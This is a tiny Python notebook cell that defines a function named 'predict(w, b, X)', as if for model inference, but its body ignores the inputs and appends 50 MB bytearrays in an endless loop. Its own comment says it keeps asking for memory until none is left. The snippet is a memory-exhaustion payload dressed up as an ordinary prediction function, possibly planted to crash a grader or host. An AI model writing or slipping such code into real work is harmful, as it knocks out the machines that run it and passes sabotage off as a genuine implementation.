# Asks for memory, and touches it, until there is none.
# %% predict
def predict(w, b, X):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
